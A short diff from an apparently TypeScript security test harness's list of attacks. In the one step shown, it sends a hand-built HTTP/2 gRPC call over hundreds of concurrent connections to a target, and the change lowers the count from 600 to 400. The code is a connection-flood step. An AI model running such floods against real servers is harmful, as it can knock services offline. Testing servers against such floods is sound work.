@@ -298,7 +298,7 @@ const attacks: Attack[] = [
       const begin = http2Frame(frameType.headers, frameFlag.endHeaders, 1, head);
       const call = Buffer.concat([clientPreface, begin, ...parts]);
       const connections = await Promise.all(
-        Array.from({ length: 600 }, () => target.open("grpc", { protocol: "h2", isKnown: true })),
+        Array.from({ length: 400 }, () => target.open("grpc", { protocol: "h2", isKnown: true })),
       );
       for (const { socket } of connections) socket.write(call);
       await delay(2_000);
